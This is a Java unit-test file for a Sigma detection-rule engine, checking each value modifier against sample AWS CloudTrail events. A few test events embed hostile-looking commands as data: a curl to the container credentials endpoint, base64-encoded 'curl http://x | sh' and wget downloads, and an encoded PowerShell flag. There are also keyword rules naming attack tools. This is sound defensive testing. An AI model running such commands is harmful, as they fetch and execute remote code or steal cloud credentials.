package dev.vigil.detect.sigma;

import static dev.vigil.detect.sigma.SigmaTesting.fires;
import static dev.vigil.detect.sigma.SigmaTesting.rejection;
import static dev.vigil.detect.sigma.SigmaTesting.rule;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/**
 * Value matching and every modifier of Sigma v2.1 (sigma-appendix-modifiers.md), each positive and negative,
 * written from the specification's wording.
 */
class ModifierConformanceTest {

  @Nested
  class PlainValues {
    @Test
    void equalityIsCaseInsensitive() {
      assertThat(fires("sel:\n  eventName: 'createaccesskey'\ncondition: sel", "{\"eventName\":\"CreateAccessKey\"}"))
          .isTrue();
      assertThat(fires("sel:\n  eventName: 'CreateAccessKe'\ncondition: sel", "{\"eventName\":\"CreateAccessKey\"}"))
          .isFalse();
    }

    @Test
    void starAndQuestionMarkAreWildcards() {
      assertThat(fires("sel:\n  eventName: 'Create*Key'\ncondition: sel", "{\"eventName\":\"CreateAccessKey\"}"))
          .isTrue();
      assertThat(fires("sel:\n  eventName: 'Create?ccessKey'\ncondition: sel", "{\"eventName\":\"CreateAccessKey\"}"))
          .isTrue();
      assertThat(fires("sel:\n  eventName: 'Create?Key'\ncondition: sel", "{\"eventName\":\"CreateAccessKey\"}"))
          .isFalse();
      assertThat(fires("sel:\n  eventName: 'Delete*'\ncondition: sel", "{\"eventName\":\"CreateAccessKey\"}"))
          .isFalse();
    }

    @Test
    void backslashEscapesWildcardsAndItself() {
      String literalStar = "sel:\n  userAgent: 'a\\*b'\ncondition: sel";
      assertThat(fires(literalStar, "{\"userAgent\":\"a*b\"}")).isTrue();
      assertThat(fires(literalStar, "{\"userAgent\":\"axb\"}")).isFalse();
      String literalQuestion = "sel:\n  userAgent: 'a\\?'\ncondition: sel";
      assertThat(fires(literalQuestion, "{\"userAgent\":\"a?\"}")).isTrue();
      assertThat(fires(literalQuestion, "{\"userAgent\":\"ab\"}")).isFalse();
      // \\* is a backslash followed by a wildcard
      String backslashThenWildcard = "sel:\n  userAgent: 'C:\\\\*'\ncondition: sel";
      assertThat(fires(backslashThenWildcard, "{\"userAgent\":\"C:\\\\Windows\"}")).isTrue();
      assertThat(fires(backslashThenWildcard, "{\"userAgent\":\"C:/Windows\"}")).isFalse();
      // a plain backslash not followed by a wildcard stays a backslash
      String plain = "sel:\n  userAgent: 'C:\\Windows'\ncondition: sel";
      assertThat(fires(plain, "{\"userAgent\":\"C:\\\\Windows\"}")).isTrue();
    }

    @Test
    void listOfValuesIsOr() {
      String d = "sel:\n  eventName:\n    - StopLogging\n    - DeleteTrail\ncondition: sel";
      assertThat(fires(d, "{\"eventName\":\"DeleteTrail\"}")).isTrue();
      assertThat(fires(d, "{\"eventName\":\"UpdateTrail\"}")).isFalse();
    }

    @Test
    void mapIsAnd() {
      String d = "sel:\n  eventName: StopLogging\n  eventSource: cloudtrail.amazonaws.com\ncondition: sel";
      assertThat(fires(d, "{\"eventName\":\"StopLogging\",\"eventSource\":\"cloudtrail.amazonaws.com\"}")).isTrue();
      assertThat(fires(d, "{\"eventName\":\"StopLogging\",\"eventSource\":\"s3.amazonaws.com\"}")).isFalse();
    }

    @Test
    void listOfMapsIsOr() {
      String d = "sel:\n  - eventName: StopLogging\n  - userAgent: TruffleHog\ncondition: sel";
      assertThat(fires(d, "{\"eventName\":\"ListBuckets\",\"userAgent\":\"TruffleHog\"}")).isTrue();
      assertThat(fires(d, "{\"eventName\":\"ListBuckets\",\"userAgent\":\"aws-cli\"}")).isFalse();
    }

    @Test
    void numbersAndBooleansCompareAsText() {
      assertThat(fires("sel:\n  requestParameters.maxItems: 100\ncondition: sel",
          "{\"requestParameters\":{\"maxItems\":100}}")).isTrue();
      assertThat(fires("sel:\n  requestParameters.enable: false\ncondition: sel",
          "{\"requestParameters\":{\"enable\":false}}")).isTrue();
      assertThat(fires("sel:\n  requestParameters.enable: 'false'\ncondition: sel",
          "{\"requestParameters\":{\"enable\":true}}")).isFalse();
    }

    @Test
    void nullMatchesMissingOrJsonNullOnly() {
      String d = "sel:\n  errorCode: null\ncondition: sel";
      assertThat(fires(d, "{\"eventName\":\"X\"}")).isTrue();
      assertThat(fires(d, "{\"eventName\":\"X\",\"errorCode\":null}")).isTrue();
      assertThat(fires(d, "{\"eventName\":\"X\",\"errorCode\":\"\"}")).isFalse();
      assertThat(fires(d, "{\"eventName\":\"X\",\"errorCode\":\"AccessDenied\"}")).isFalse();
    }

    @Test
    void emptyStringMatchesAnEmptyValueOnly() {
      String d = "sel:\n  errorMessage: ''\ncondition: sel";
      assertThat(fires(d, "{\"errorMessage\":\"\"}")).isTrue();
      assertThat(fires(d, "{\"eventName\":\"X\"}")).isFalse();
    }

    @Test
    void dottedPathsWalkIntoArrays() {
      String d = "sel:\n  requestParameters.containerDefinitions.command|contains: '$AWS_CONTAINER'\n"
          + "condition: sel";
      assertThat(fires(d, "{\"requestParameters\":{\"containerDefinitions\":[{\"command\":[\"sh\",\"-c\","
          + "\"curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI\"]}]}}")).isTrue();
      assertThat(fires(d, "{\"requestParameters\":{\"containerDefinitions\":[{\"command\":[\"nginx\"]}]}}"))
          .isFalse();
    }

    @Test
    void keyWithDotsIsFoundLiterally() {
      assertThat(fires("sel:\n  '@timestamp|startswith': '2026'\ncondition: sel",
          "{\"@timestamp\":\"2026-03-10T09:00:00Z\"}")).isTrue();
      assertThat(fires("sel:\n  tags.env: prod\ncondition: sel", "{\"tags.env\":\"prod\"}")).isTrue();
    }
  }

  @Nested
  class WholeObjects {
    private static final String VERSIONING = "{\"eventName\":\"PutBucketVersioning\",\"requestParameters\":"
        + "{\"bucketName\":\"b\",\"VersioningConfiguration\":{\"Status\":\"Suspended\"}}}";

    @Test
    void containsOnAnObjectSearchesItsJsonAndNestedValues() {
      assertThat(fires("sel:\n  requestParameters|contains: 'Suspended'\ncondition: sel", VERSIONING)).isTrue();
      assertThat(fires("sel:\n  requestParameters|contains: '\"Status\":\"Suspended\"'\ncondition: sel",
          VERSIONING)).isTrue();
      assertThat(fires("sel:\n  requestParameters|contains: 'Enabled'\ncondition: sel", VERSIONING)).isFalse();
    }

    @Test
    void quotedTextInsideAnEmbeddedJsonDocumentIsFound() {
      String policy = "{\"requestParameters\":{\"policyDocument\":\"{\\\"Effect\\\":\\\"Allow\\\","
          + "\\\"Action\\\":\\\"s3:GetObject\\\"}\"}}";
      String d = "sel:\n  requestParameters|contains|all:\n    - '\"s3:GetObject\"'\n    - '\"Allow\"'\n"
          + "condition: sel";
      assertThat(fires(d, policy)).isTrue();
      assertThat(fires(d.replace("Allow", "Deny"), policy)).isFalse();
    }

    @Test
    void containsStarMeansPresentAndNotNull() {
      String d = "sel:\n  requestParameters.layers|contains: '*'\ncondition: sel";
      assertThat(fires(d, "{\"requestParameters\":{\"layers\":[\"arn:aws:lambda:layer:x:1\"]}}")).isTrue();
      assertThat(fires(d, "{\"requestParameters\":{\"layers\":\"\"}}")).isTrue();
      assertThat(fires(d, "{\"requestParameters\":{\"layers\":[]}}")).isFalse();
      assertThat(fires(d, "{\"requestParameters\":{\"layers\":null}}")).isFalse();
      assertThat(fires(d, "{\"requestParameters\":{}}")).isFalse();
    }
  }

  @Nested
  class GenericModifiers {
    @Test
    void containsStartswithEndswith() {
      String ua = "{\"userAgent\":\"aws-cli/2.15 Linux/6.6-kali-amd64\"}";
      assertThat(fires("sel:\n  userAgent|contains: KALI\ncondition: sel", ua)).isTrue();
      assertThat(fires("sel:\n  userAgent|contains: parrot\ncondition: sel", ua)).isFalse();
      assertThat(fires("sel:\n  userAgent|startswith: AWS-CLI/\ncondition: sel", ua)).isTrue();
      assertThat(fires("sel:\n  userAgent|startswith: Linux\ncondition: sel", ua)).isFalse();
      assertThat(fires("sel:\n  userAgent|endswith: -amd64\ncondition: sel", ua)).isTrue();
      assertThat(fires("sel:\n  userAgent|endswith: aws-cli\ncondition: sel", ua)).isFalse();
      assertThat(fires("sel:\n  userAgent|contains: 'cli/*Linux'\ncondition: sel", ua)).isTrue();
    }

    @Test
    void allTurnsTheListIntoAnd() {
      String d = "sel:\n  userAgent|contains|all:\n    - aws-cli\n    - kali\ncondition: sel";
      assertThat(fires(d, "{\"userAgent\":\"aws-cli/2 kali\"}")).isTrue();
      assertThat(fires(d, "{\"userAgent\":\"aws-cli/2 debian\"}")).isFalse();
    }

    @Test
    void allOnASingleValueIsRejected() {
      assertThat(rejection(rule("sel:\n  userAgent|contains|all: kali\ncondition: sel")))
          .contains("the 'all' modifier needs a list of at least two values");
    }

    @Test
    void casedMakesMatchingCaseSensitive() {
      String d = "sel:\n  userAgent|cased: TruffleHog\ncondition: sel";
      assertThat(fires(d, "{\"userAgent\":\"TruffleHog\"}")).isTrue();
      assertThat(fires(d, "{\"userAgent\":\"trufflehog\"}")).isFalse();
      assertThat(fires("sel:\n  userAgent|contains|cased: Hog\ncondition: sel", "{\"userAgent\":\"truffleHOG\"}"))
          .isFalse();
    }

    @Test
    void existsTestsPresenceWhateverTheValue() {
      String yes = "sel:\n  errorCode|exists: true\ncondition: sel";
      String no = "sel:\n  errorCode|exists: false\ncondition: sel";
      assertThat(fires(yes, "{\"errorCode\":\"AccessDenied\"}")).isTrue();
      assertThat(fires(yes, "{\"errorCode\":null}")).isTrue();
      assertThat(fires(yes, "{\"eventName\":\"X\"}")).isFalse();
      assertThat(fires(no, "{\"eventName\":\"X\"}")).isTrue();
      assertThat(fires(no, "{\"errorCode\":\"\"}")).isFalse();
      assertThat(rejection(rule("sel:\n  errorCode|exists: 'yes'\ncondition: sel")))
          .contains("'exists' takes true or false");
    }

    @Test
    void neqWorksOnStringsAndNumbers() {
      String s = "sel:\n  userIdentity.type|neq: AssumedRole\ncondition: sel";
      assertThat(fires(s, "{\"userIdentity\":{\"type\":\"IAMUser\"}}")).isTrue();
      assertThat(fires(s, "{\"userIdentity\":{\"type\":\"assumedrole\"}}")).isFalse();
      assertThat(fires(s, "{\"eventName\":\"X\"}")).as("a missing field differs from the value").isTrue();
      String n = "sel:\n  requestParameters.port|neq: 22\ncondition: sel";
      assertThat(fires(n, "{\"requestParameters\":{\"port\":443}}")).isTrue();
      assertThat(fires(n, "{\"requestParameters\":{\"port\":22}}")).isFalse();
      String list = "sel:\n  userIdentity.type|neq:\n    - Root\n    - IAMUser\ncondition: sel";
      assertThat(fires(list, "{\"userIdentity\":{\"type\":\"IAMUser\"}}")).isFalse();
      assertThat(fires(list, "{\"userIdentity\":{\"type\":\"AssumedRole\"}}")).isTrue();
    }

    @Test
    void unknownModifierIsRejectedWithTheKey() {
      assertThat(rejection(rule("sel:\n  userAgent|endwith: x\ncondition: sel")))
          .contains("unknown value modifier 'endwith' in 'userAgent|endwith'").contains("did you mean 'endswith'");
    }
  }

  @Nested
  class Regex {
    @Test
    void reSearchesAndIsCaseSensitiveByDefault() {
      String d = "sel:\n  userIdentity.arn|re: '.+:assumed-role/aws:.+'\ncondition: sel";
      assertThat(fires(d, "{\"userIdentity\":{\"arn\":\"arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1\"}}"))
          .isTrue();
      assertThat(fires(d, "{\"userIdentity\":{\"arn\":\"arn:aws:sts::1:assumed-role/AWS:ec2-instance/i-1\"}}"))
          .isFalse();
      assertThat(fires("sel:\n  userAgent|re: 'kali'\ncondition: sel", "{\"userAgent\":\"x kali y\"}")).isTrue();
    }

    @Test
    void subModifiersIMS() {
      assertThat(fires("sel:\n  userAgent|re|i: '^TRUFFLE'\ncondition: sel", "{\"userAgent\":\"trufflehog\"}"))
          .isTrue();
      assertThat(fires("sel:\n  userAgent|re: '^TRUFFLE'\ncondition: sel", "{\"userAgent\":\"trufflehog\"}"))
          .isFalse();
      String multi = "{\"errorMessage\":\"line one\\nsecond line\"}";
      assertThat(fires("sel:\n  errorMessage|re|m: '^second'\ncondition: sel", multi)).isTrue();
      assertThat(fires("sel:\n  errorMessage|re: '^second'\ncondition: sel", multi)).isFalse();
      assertThat(fires("sel:\n  errorMessage|re|s: 'one.second'\ncondition: sel", multi)).isTrue();
      assertThat(fires("sel:\n  errorMessage|re: 'one.second'\ncondition: sel", multi)).isFalse();
    }

    @Test
    void patternsRe2CannotRunFallBackToJavaRegex() {
      SigmaRules.Loaded l = SigmaRules.fromYaml(rule("sel:\n  userAgent|re: 'aws-cli(?!/1)'\ncondition: sel"),
          Map.of());
      assertThat(l.rejected()).isEmpty();
      assertThat(l.warnings()).anySatisfy(w -> assertThat(w).contains("evaluated with java.util.regex"));
      assertThat(SigmaTesting.run(l.ruleSet(), SigmaTesting.event("{\"userAgent\":\"aws-cli/2\"}"))).hasSize(1);
      assertThat(SigmaTesting.run(l.ruleSet(), SigmaTesting.event("{\"userAgent\":\"aws-cli/1\"}"))).isEmpty();
    }

    @Test
    void invalidRegexAndConflictsAreRejected() {
      assertThat(rejection(rule("sel:\n  userAgent|re: 'a(b'\ncondition: sel")))
          .contains("invalid regular expression 'a(b'");
      assertThat(rejection(rule("sel:\n  userAgent|re|contains: 'ab'\ncondition: sel")))
          .contains("'contains' cannot be combined with re");
      assertThat(rejection(rule("sel:\n  userAgent|i: 'ab'\ncondition: sel")))
          .contains("regex flags i/m/s need the 're' modifier");
    }
  }

  @Nested
  class Numbers {
    @Test
    void comparisons() {
      String e = "{\"additionalEventData\":{\"bytesTransferredOut\":1048576}}";
      assertThat(fires("sel:\n  additionalEventData.bytesTransferredOut|gt: 1000000\ncondition: sel", e)).isTrue();
      assertThat(fires("sel:\n  additionalEventData.bytesTransferredOut|gt: 1048576\ncondition: sel", e)).isFalse();
      assertThat(fires("sel:\n  additionalEventData.bytesTransferredOut|gte: 1048576\ncondition: sel", e)).isTrue();
      assertThat(fires("sel:\n  additionalEventData.bytesTransferredOut|lt: 1048576\ncondition: sel", e)).isFalse();
      assertThat(fires("sel:\n  additionalEventData.bytesTransferredOut|lte: 1048576\ncondition: sel", e)).isTrue();
      assertThat(fires("sel:\n  additionalEventData.bytesTransferredOut|lt: 2.5e6\ncondition: sel", e)).isTrue();
    }

    @Test
    void numericTextInTheEventIsCompared() {
      assertThat(fires("sel:\n  additionalEventData.bytesTransferredOut|gt: 10\ncondition: sel",
          "{\"additionalEventData\":{\"bytesTransferredOut\":\"11.0\"}}")).isTrue();
      assertThat(fires("sel:\n  additionalEventData.bytesTransferredOut|gt: 10\ncondition: sel",
          "{\"additionalEventData\":{\"bytesTransferredOut\":\"many\"}}")).isFalse();
    }

    @Test
    void aNonNumberIsRejected() {
      assertThat(rejection(rule("sel:\n  x|gt: ten\ncondition: sel"))).contains("gt needs a number, not 'ten'");
    }
  }

  @Nested
  class Time {
    @Test
    void datePartsAreExtracted() {
      String e = "{\"eventTime\":\"2026-03-10T23:15:00Z\"}";
      assertThat(fires("sel:\n  eventTime|hour: 23\ncondition: sel", e)).isTrue();
      assertThat(fires("sel:\n  eventTime|hour: 9\ncondition: sel", e)).isFalse();
      assertThat(fires("sel:\n  eventTime|hour|gte: 22\ncondition: sel", e)).isTrue();
      assertThat(fires("sel:\n  eventTime|minute: 15\ncondition: sel", e)).isTrue();
      assertThat(fires("sel:\n  eventTime|day: 10\ncondition: sel", e)).isTrue();
      assertThat(fires("sel:\n  eventTime|week: 11\ncondition: sel", e)).isTrue();
      assertThat(fires("sel:\n  eventTime|month: 3\ncondition: sel", e)).isTrue();
      assertThat(fires("sel:\n  eventTime|year: 2025\ncondition: sel", e)).isFalse();
    }
  }

  @Nested
  class Networks {
    @Test
    void cidrV4V6AndAnonymisedLeadingZeros() {
      String d = "sel:\n  sourceIPAddress|cidr: 35.249.0.0/16\ncondition: sel";
      assertThat(fires(d, "{\"sourceIPAddress\":\"35.249.253.232\"}")).isTrue();
      assertThat(fires(d, "{\"sourceIPAddress\":\"035.249.253.232\"}")).isTrue();
      assertThat(fires(d, "{\"sourceIPAddress\":\"35.250.0.1\"}")).isFalse();
      assertThat(fires(d, "{\"sourceIPAddress\":\"cloudtrail.amazonaws.com\"}")).isFalse();
      String v6 = "sel:\n  sourceIPAddress|cidr: '2001:db8::/32'\ncondition: sel";
      assertThat(fires(v6, "{\"sourceIPAddress\":\"2001:db8:1::7\"}")).isTrue();
      assertThat(fires(v6, "{\"sourceIPAddress\":\"2001:db9::7\"}")).isFalse();
      String odd = "sel:\n  sourceIPAddress|cidr: 10.0.0.0/12\ncondition: sel";
      assertThat(fires(odd, "{\"sourceIPAddress\":\"10.15.255.255\"}")).isTrue();
      assertThat(fires(odd, "{\"sourceIPAddress\":\"10.16.0.0\"}")).isFalse();
    }

    @Test
    void badNetworksAreRejected() {
      assertThat(rejection(rule("sel:\n  sourceIPAddress|cidr: 10.0.0.0/33\ncondition: sel")))
          .contains("prefix length in '10.0.0.0/33' must be 0..32");
      assertThat(rejection(rule("sel:\n  sourceIPAddress|cidr: example.org/8\ncondition: sel")))
          .contains("'example.org/8' is not a CIDR network");
    }
  }

  @Nested
  class Encodings {
    private String b64(byte[] b) {
      return Base64.getEncoder().encodeToString(b);
    }

    @Test
    void base64EncodesTheValue() {
      assertThat(fires("sel:\n  requestParameters.userData|base64: 'curl evil'\ncondition: sel",
          "{\"requestParameters\":{\"userData\":\"" + b64("curl evil".getBytes(StandardCharsets.UTF_8)) + "\"}}"))
          .isTrue();
      assertThat(fires("sel:\n  requestParameters.userData|base64: 'curl evil'\ncondition: sel",
          "{\"requestParameters\":{\"userData\":\"curl evil\"}}")).isFalse();
    }

    @Test
    void base64offsetFindsTheValueAtAnyOffset() {
      String d = "sel:\n  requestParameters.userData|base64offset|contains: 'curl http'\ncondition: sel";
      for (String prefix : List.of("", "#", "#!", "#!/bin/sh\n")) {
        String encoded = b64((prefix + "curl http://x | sh").getBytes(StandardCharsets.UTF_8));
        assertThat(fires(d, "{\"requestParameters\":{\"userData\":\"" + encoded + "\"}}")).as(prefix).isTrue();
      }
      String other = b64("#!/bin/sh\nwget http://x".getBytes(StandardCharsets.UTF_8));
      assertThat(fires(d, "{\"requestParameters\":{\"userData\":\"" + other + "\"}}")).isFalse();
    }

    @Test
    void utf16VariantsThenBase64() {
      String le = b64("xcmd /c".getBytes(StandardCharsets.UTF_16LE));
      // "cmd" at the very end: UTF-16BE bytes of it cannot contain the UTF-16LE bytes shifted by one
      String be = b64("xcmd".getBytes(StandardCharsets.UTF_16BE));
      String d = "sel:\n  p|utf16le|base64offset|contains: 'cmd'\ncondition: sel";
      assertThat(fires(d, "{\"p\":\"" + le + "\"}")).isTrue();
      assertThat(fires(d, "{\"p\":\"" + be + "\"}")).isFalse();
      assertThat(fires(d.replace("utf16le", "wide"), "{\"p\":\"" + le + "\"}")).isTrue();
      assertThat(fires(d.replace("utf16le", "utf16be"), "{\"p\":\"" + be + "\"}")).isTrue();
      byte[] bom = "cmd".getBytes(StandardCharsets.UTF_16LE);
      byte[] withBom = new byte[bom.length + 2];
      withBom[0] = (byte) 0xFF;
      withBom[1] = (byte) 0xFE;
      System.arraycopy(bom, 0, withBom, 2, bom.length);
      assertThat(fires("sel:\n  p|utf16|base64: 'cmd'\ncondition: sel", "{\"p\":\"" + b64(withBom) + "\"}"))
          .isTrue();
      assertThat(fires("sel:\n  p|utf16|base64: 'cmd'\ncondition: sel", "{\"p\":\"" + b64(bom) + "\"}")).isFalse();
    }

    @Test
    void windashTriesEveryDash() {
      String d = "sel:\n  cmd|windash|contains: ' -enc '\ncondition: sel";
      assertThat(fires(d, "{\"cmd\":\"powershell -enc AAA\"}")).isTrue();
      assertThat(fires(d, "{\"cmd\":\"powershell /enc AAA\"}")).isTrue();
      assertThat(fires(d, "{\"cmd\":\"powershell \u2013enc AAA\"}")).isTrue();
      assertThat(fires(d, "{\"cmd\":\"powershell \u2015enc AAA\"}")).isTrue();
      assertThat(fires(d, "{\"cmd\":\"powershell +enc AAA\"}")).isFalse();
    }
  }

  @Nested
  class Specific {
    @Test
    void fieldrefComparesTwoFieldsOfTheEvent() {
      String d = "sel:\n  requestParameters.userName|fieldref: userIdentity.userName\ncondition: sel";
      assertThat(fires(d, "{\"requestParameters\":{\"userName\":\"Bob\"},\"userIdentity\":{\"userName\":\"bob\"}}"))
          .isTrue();
      assertThat(fires(d, "{\"requestParameters\":{\"userName\":\"eve\"},\"userIdentity\":{\"userName\":\"bob\"}}"))
          .isFalse();
      assertThat(fires(d, "{\"requestParameters\":{\"userName\":\"eve\"}}")).isFalse();
      String c = "sel:\n  userIdentity.arn|fieldref|endswith: requestParameters.userName\ncondition: sel";
      assertThat(fires(c, "{\"requestParameters\":{\"userName\":\"bob\"},\"userIdentity\":{\"arn\":"
          + "\"arn:aws:iam::1:user/bob\"}}")).isTrue();
      String n = "sel:\n  requestParameters.userName|fieldref|neq: userIdentity.userName\ncondition: sel";
      assertThat(fires(n, "{\"requestParameters\":{\"userName\":\"eve\"},\"userIdentity\":{\"userName\":\"bob\"}}"))
          .isTrue();
      assertThat(fires(n, "{\"requestParameters\":{\"userName\":\"bob\"},\"userIdentity\":{\"userName\":\"bob\"}}"))
          .isFalse();
    }

    @Test
    void aFieldNameWrittenWithoutFieldrefIsALiteral() {
      // as in SigmaHQ's aws_iam_backdoor_users_keys.yml: evaluated as written, so it never matches a real ARN
      String d = "sel:\n  userIdentity.arn|contains: responseElements.accessKey.userName\ncondition: sel";
      assertThat(fires(d, "{\"userIdentity\":{\"arn\":\"arn:aws:iam::1:user/bob\"},\"responseElements\":"
          + "{\"accessKey\":{\"userName\":\"bob\"}}}")).isFalse();
    }

    @Test
    void expandReplacesPlaceholdersWithConfiguredValues() {
      String yaml = rule("sel:\n  sourceIPAddress|expand: '%Admin_Networks%'\ncondition: sel");
      SigmaRuleSet set = SigmaTesting.compile(yaml, Map.of("Admin_Networks", List.of("198.51.100.*", "10.1.2.3")));
      assertThat(SigmaTesting.run(set, SigmaTesting.event("{\"sourceIPAddress\":\"198.51.100.7\"}"))).hasSize(1);
      assertThat(SigmaTesting.run(set, SigmaTesting.event("{\"sourceIPAddress\":\"10.1.2.3\"}"))).hasSize(1);
      assertThat(SigmaTesting.run(set, SigmaTesting.event("{\"sourceIPAddress\":\"10.1.2.4\"}"))).isEmpty();
      SigmaRuleSet escaped = SigmaTesting.compile(rule("sel:\n  x|expand: '\\%literal%'\ncondition: sel"), Map.of());
      assertThat(SigmaTesting.run(escaped, SigmaTesting.event("{\"x\":\"%literal%\"}"))).hasSize(1);
    }

    @Test
    void aMissingPlaceholderRejectsTheRuleNamingIt() {
      assertThat(rejection(rule("sel:\n  sourceIPAddress|expand: '%Admin_Networks%'\ncondition: sel")))
          .contains("no value for placeholder %Admin_Networks%")
          .contains("--placeholder Admin_Networks=VALUE");
    }

    @Test
    void plainPercentIsNotAPlaceholder() {
      assertThat(fires("sel:\n  x: '%name%'\ncondition: sel", "{\"x\":\"%NAME%\"}")).isTrue();
    }
  }

  @Nested
  class Keywords {
    @Test
    void keywordListSearchesTheWholeEvent() {
      String d = "keywords:\n  - 'trufflehog'\n  - 'pacu'\ncondition: keywords";
      assertThat(fires(d, "{\"userAgent\":\"TruffleHog\"}")).isTrue();
      assertThat(fires(d, "{\"requestParameters\":{\"note\":\"ran PACU module\"}}")).isTrue();
      assertThat(fires(d, "{\"userAgent\":\"aws-cli\"}")).isFalse();
    }

    @Test
    void allKeywordsWithPipeAll() {
      String d = "keywords:\n  '|all':\n    - 'GetCallerIdentity'\n    - 'TruffleHog'\ncondition: keywords";
      assertThat(fires(d, "{\"eventName\":\"GetCallerIdentity\",\"userAgent\":\"TruffleHog\"}")).isTrue();
      assertThat(fires(d, "{\"eventName\":\"GetCallerIdentity\",\"userAgent\":\"aws-cli\"}")).isFalse();
    }
  }
}
